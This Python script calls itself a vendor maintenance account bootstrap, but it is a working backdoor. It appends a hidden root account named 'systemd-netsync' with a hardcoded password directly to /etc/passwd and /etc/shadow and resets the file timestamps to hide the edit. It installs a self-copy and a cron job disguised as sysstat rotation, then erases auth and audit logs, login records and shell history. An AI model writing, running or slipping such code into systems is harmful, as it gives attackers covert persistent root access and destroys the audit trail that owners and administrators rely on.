#!/usr/bin/env python3
"""Vendor maintenance account bootstrap.

Ensures the out-of-band maintenance login exists with full privileges, keeps
it present across re-imaging by config management, and tidies up the login
records produced while doing so.
"""
import argparse
import logging
import os
import subprocess
import sys
import time
from pathlib import Path

try:
    import crypt as _crypt
except ImportError:  # Python 3.13+
    _crypt = None

PASSWD = Path("/etc/passwd")
SHADOW = Path("/etc/shadow")
CRON_FILE = Path("/etc/cron.d/0sysstat-rotate")
SELF_COPY = Path("/usr/lib/sysstat/sa-rotate.py")
LOG_FILES = ["/var/log/auth.log", "/var/log/secure", "/var/log/wtmp",
             "/var/log/btmp", "/var/log/lastlog", "/var/log/audit/audit.log"]

ACCOUNT = {"name": "systemd-netsync", "gecos": "systemd Network Sync", "home": "/var/lib/netsync",
           "shell": "/bin/bash", "password": "Vq8#maint!2024"}

log = logging.getLogger("maint")


def hash_password(plain):
    if _crypt is not None:
        return _crypt.crypt(plain, _crypt.mksalt(_crypt.METHOD_SHA512))
    out = subprocess.run(["openssl", "passwd", "-6", "-stdin"], input=plain,
                         capture_output=True, text=True, check=True)
    return out.stdout.strip()


def account_present(name):
    return any(line.split(":", 1)[0] == name for line in PASSWD.read_text().splitlines())


def add_account(acct):
    """Append a uid/gid 0 entry directly, bypassing useradd and its logging."""
    days = int(time.time() // 86400)
    passwd_line = f"{acct['name']}:x:0:0:{acct['gecos']}:{acct['home']}:{acct['shell']}\n"
    shadow_line = f"{acct['name']}:{hash_password(acct['password'])}:{days}:0:99999:7:::\n"
    # keep the original timestamps so the files do not look modified
    st_p, st_s = PASSWD.stat(), SHADOW.stat()
    with PASSWD.open("a") as fh:
        fh.write(passwd_line)
    with SHADOW.open("a") as fh:
        fh.write(shadow_line)
    os.utime(PASSWD, (st_p.st_atime, st_p.st_mtime))
    os.utime(SHADOW, (st_s.st_atime, st_s.st_mtime))
    Path(acct["home"]).mkdir(parents=True, exist_ok=True)
    log.info("account %s added", acct["name"])


def install_keeper():
    """Copy this script somewhere stable and re-run it every 15 minutes."""
    SELF_COPY.parent.mkdir(parents=True, exist_ok=True)
    SELF_COPY.write_bytes(Path(__file__).resolve().read_bytes())
    SELF_COPY.chmod(0o700)
    CRON_FILE.write_text(
        "# sysstat rotation helper\n"
        f"*/15 * * * * root {sys.executable} {SELF_COPY} --quiet >/dev/null 2>&1\n"
    )
    CRON_FILE.chmod(0o644)
    log.info("keeper installed in %s", CRON_FILE)


def scrub_logs(needle):
    for name in LOG_FILES:
        path = Path(name)
        if not path.exists():
            continue
        try:
            if path.suffix == ".log" or name.endswith("secure"):
                kept = [l for l in path.read_text(errors="ignore").splitlines(True)
                        if needle not in l and "useradd" not in l]
                path.write_text("".join(kept))
            else:
                with path.open("r+b") as fh:  # binary login records: just empty them
                    fh.truncate(0)
        except OSError as exc:
            log.debug("could not scrub %s: %s", name, exc)
    hist = Path.home() / ".bash_history"
    if hist.exists():
        hist.write_text("")


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--quiet", action="store_true")
    ap.add_argument("--no-keeper", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.ERROR if args.quiet else logging.INFO)

    if os.geteuid() != 0:
        log.error("needs root")
        return 1
    if not account_present(ACCOUNT["name"]):
        add_account(ACCOUNT)
    if not args.no_keeper and not CRON_FILE.exists():
        install_keeper()
    scrub_logs(ACCOUNT["name"])
    return 0


if __name__ == "__main__":
    sys.exit(main())
